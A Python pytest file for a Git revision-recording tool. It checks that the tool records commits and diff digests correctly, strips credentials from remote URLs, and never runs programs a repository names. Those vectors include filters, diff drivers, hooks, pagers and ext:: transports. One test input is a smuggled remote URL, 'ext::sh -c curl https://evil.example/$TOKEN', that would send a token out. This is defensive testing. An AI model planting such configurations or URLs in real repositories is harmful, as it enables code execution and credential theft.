"""The revision of the code, asked in real repositories: clean, changed, and made to run something."""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
from pathlib import Path

import jsonschema_rs
import pytest
import yaml

from governance.integrations.facts import git
from governance.integrations.facts.git import NoRevisionError, address, code

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="no Git")

KIND = Path(__file__).parents[3] / "evidence" / "kinds" / "source-revision.v1.yaml"


def run(repository, *arguments):
    environ = {name: value for name, value in os.environ.items() if not name.startswith("GIT_")} | {
        "GIT_CONFIG_GLOBAL": os.devnull, "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@example.org",
        "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@example.org",
    }  # fmt: skip
    ran = subprocess.run(["git", *arguments], cwd=repository, env=environ, capture_output=True, check=True)
    return ran.stdout


@pytest.fixture
def repository(tmp_path, monkeypatch):
    """One commit of two files, on the branch `work`."""
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
    folder = tmp_path / "repository"
    (folder / "scripts").mkdir(parents=True)
    run(folder, "init", "-q", "-b", "work")
    (folder / "scripts" / "train.py").write_text("print(1)\n", encoding="utf-8")
    (folder / "weights.bin").write_bytes(bytes(range(256)))
    run(folder, "add", "-A")
    run(folder, "commit", "-qm", "first")
    return folder


def body_of(folder, script=None):
    body = code([str(folder)], None if script is None else str(script))
    jsonschema_rs.validator_for(yaml.safe_load(KIND.read_text(encoding="utf-8"))["body"]).validate(body)
    return body


def test_a_clean_revision_is_told_with_branch_and_tag_and_no_digest(repository):
    run(repository, "tag", "v1")
    body = body_of(repository / "scripts", repository / "scripts" / "train.py")
    assert body["commit"] == run(repository, "rev-parse", "HEAD").decode().strip()
    assert (body["branch"], body["tag"], body["entry_point"]) == ("work", "v1", "scripts/train.py")
    assert (body["uncommitted_changes"], body["diff_digest"], body["untracked_files"]) == (False, None, 0)
    assert body["repository"] is None
    assert body["tool"]["version"][0].isdigit()


def test_what_was_changed_has_the_digest_of_its_diff_which_anybody_can_make_again(repository):
    (repository / "scripts" / "train.py").write_text("print(2)\n", encoding="utf-8")
    (repository / "weights.bin").write_bytes(bytes(range(255, -1, -1)))
    (repository / "new.py").write_text("", encoding="utf-8")
    body = body_of(repository)
    again = run(repository, "diff", "HEAD", "--binary", "--full-index")
    assert body["diff_digest"] == f"sha256:{hashlib.sha256(again).hexdigest()}"
    assert (body["uncommitted_changes"], body["untracked_files"]) == (True, 1)


def test_what_is_staged_counts_as_changed_and_the_index_is_left_alone(repository):
    (repository / "scripts" / "train.py").write_text("print(3)\n", encoding="utf-8")
    run(repository, "add", "-A")
    before = (repository / ".git" / "index").read_bytes()
    assert body_of(repository)["uncommitted_changes"] is True
    assert (repository / ".git" / "index").read_bytes() == before


def test_settings_of_the_user_and_the_repository_do_not_change_the_digest(repository):
    (repository / "scripts" / "train.py").write_text("print(2)\n", encoding="utf-8")
    plain = body_of(repository)["diff_digest"]
    for name, value in (
        ("diff.noprefix", "true"), ("diff.mnemonicPrefix", "true"), ("color.ui", "always"), ("diff.algorithm", "histogram"),
        ("diff.context", "9"), ("diff.renames", "copies"), ("diff.relative", "true"), ("core.abbrev", "40"),
    ):  # fmt: skip
        run(repository, "config", name, value)
    assert body_of(repository / "scripts")["diff_digest"] == plain


def test_a_repository_without_a_commit_has_no_revision_and_says_so(tmp_path):
    run(tmp_path, "init", "-q", "-b", "work")
    body = body_of(tmp_path)
    assert (body["commit"], body["branch"], body["uncommitted_changes"]) == (None, "work", None)


def test_outside_of_a_repository_the_reason_is_given_and_the_next_folder_is_asked(repository, tmp_path):
    with pytest.raises(NoRevisionError, match="neither the script nor"):
        code([str(tmp_path)])
    assert code([str(tmp_path / "gone"), str(tmp_path), str(repository)])["commit"]


def test_without_git_the_reason_is_given(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(NoRevisionError, match="not installed"):
        code([str(tmp_path)])


def test_an_old_git_is_not_asked(tmp_path, monkeypatch):
    old = tmp_path / "git"
    old.write_text("#!/bin/sh\necho git version 2.25.1\n", encoding="utf-8")
    old.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:/bin:/usr/bin")
    with pytest.raises(NoRevisionError, match=r"older than 2\.31"):
        code([str(tmp_path)])


def test_a_git_that_hangs_is_stopped(tmp_path, monkeypatch):
    slow = tmp_path / "git"
    slow.write_text(
        '#!/bin/sh\ncase "$*" in *version*) echo git version 2.47.1;; *) exec sleep 60;; esac\n', encoding="utf-8"
    )
    slow.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:/bin:/usr/bin")
    with pytest.raises(NoRevisionError):
        code([str(tmp_path)], seconds=0.5)


def test_a_diff_that_is_too_long_is_a_change_without_a_digest(repository, monkeypatch):
    (repository / "scripts" / "train.py").write_text("print(2)\n" * 1000, encoding="utf-8")
    monkeypatch.setattr(git, "LARGEST", 5000)
    body = body_of(repository)
    assert (body["uncommitted_changes"], body["diff_digest"]) == (True, None)


@pytest.fixture
def bait(repository, tmp_path):
    """A program that leaves a mark when it is run, and a repository in which a file was changed."""
    mark = tmp_path / "it-was-run"
    program = tmp_path / "bait.sh"
    program.write_text(f"#!/bin/sh\ntouch {mark}\ncat\n", encoding="utf-8")
    program.chmod(0o755)
    (repository / ".gitattributes").write_text("*.py diff=evil filter=evil\n", encoding="utf-8")
    run(repository, "add", "-A")
    run(repository, "commit", "-qm", "attributes")
    (repository / "scripts" / "train.py").write_text("print(2)\n", encoding="utf-8")
    return program, mark


@pytest.mark.parametrize(
    "setting",
    [
        "core.fsmonitor", "diff.external", "diff.evil.command", "diff.evil.textconv", "filter.evil.clean", "filter.evil.process",
        "filter.evil.smudge", "core.pager", "pager.diff", "core.sshCommand", "core.askPass", "core.editor", "gpg.program",
    ],
)  # fmt: skip
def test_no_program_that_a_repository_names_is_run(repository, bait, setting):
    program, mark = bait
    run(repository, "config", setting, str(program))
    run(repository, "config", "filter.evil.required", "true")
    body = body_of(repository)
    assert not mark.exists()
    assert body["commit"]


def test_the_bait_is_taken_by_a_plain_git(repository, bait):
    """Without this the tests above could not fail."""
    program, mark = bait
    run(repository, "config", "filter.evil.clean", str(program))
    run(repository, "diff", "HEAD")
    assert mark.exists()


def test_no_hook_is_run(repository, bait):
    program, mark = bait
    for hook in ("post-index-change", "fsmonitor-watchman", "reference-transaction", "post-checkout"):
        shutil.copy(program, repository / ".git" / "hooks" / hook)
    body_of(repository)
    assert not mark.exists()


def test_a_name_of_a_filter_that_fools_the_command_line_is_switched_off_too(repository, bait):
    program, mark = bait
    (repository / ".gitattributes").write_text("*.py filter=a=b.c\n", encoding="utf-8")
    with (repository / ".git" / "config").open("a", encoding="utf-8") as config:
        config.write(f'[filter "a=b.c"]\n\tclean = {program}\n')
    body_of(repository)
    assert not mark.exists()


def test_nothing_that_is_missing_is_fetched(repository, bait, tmp_path):
    """A partial clone would fetch a missing object by a command that the repository names."""
    program, mark = bait
    run(repository, "config", "remote.origin.url", f"ext::{program} %S")
    run(repository, "config", "remote.origin.promisor", "true")
    run(repository, "config", "extensions.partialClone", "origin")
    run(repository, "config", "protocol.ext.allow", "always")
    run(repository, "config", "core.repositoryFormatVersion", "1")
    blob = run(repository, "rev-parse", "HEAD:scripts/train.py").decode().strip()
    (repository / ".git" / "objects" / blob[:2] / blob[2:]).unlink()
    body = body_of(repository)
    assert not mark.exists()
    assert (body["repository"], body["diff_digest"]) == (None, None)


def test_where_a_filter_was_switched_off_a_difference_can_not_be_told(repository, bait):
    program, _ = bait
    run(repository, "config", "filter.evil.clean", str(program))
    body = body_of(repository)
    assert (body["uncommitted_changes"], body["diff_digest"]) == (None, None)
    (repository / "weights.bin").write_bytes(b"changed")
    body = body_of(repository)
    assert (body["uncommitted_changes"], body["diff_digest"]) == (True, None)


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("https://ada:s3cret@git.example/library/elm-desk", "https://git.example/library/elm-desk"),
        ("https://oauth2:glpat-x@git.example:8443/a/b.git?access_token=abc#x", "https://git.example:8443/a/b.git"),
        ("ssh://git@git.example/a/b.git", "ssh://git.example/a/b.git"),
        ("git@github.com:org/repo.git", "github.com:org/repo.git"),
        ("ghp_abcdefghijklmnop@github.com:org/repo.git", "github.com:org/repo.git"),
        ("https://a@b@git.example/x", "https://git.example/x"),
        ("/srv/git/repo.git", "/srv/git/repo.git"),
        ("ext::sh -c 'curl https://evil.example/$TOKEN'", None),
        ("codecommit::eu-west-1://profile@repo", None),
        ("https://git.example/a b", None),
        ("", None),
    ],
)
def test_an_address_loses_user_password_and_question(said, expected):
    assert address(said) == expected


def test_the_remote_is_told_without_its_password(repository):
    run(repository, "remote", "add", "origin", "https://ada:s3cret@git.example/library/elm-desk.git")
    assert body_of(repository)["repository"] == "https://git.example/library/elm-desk.git"
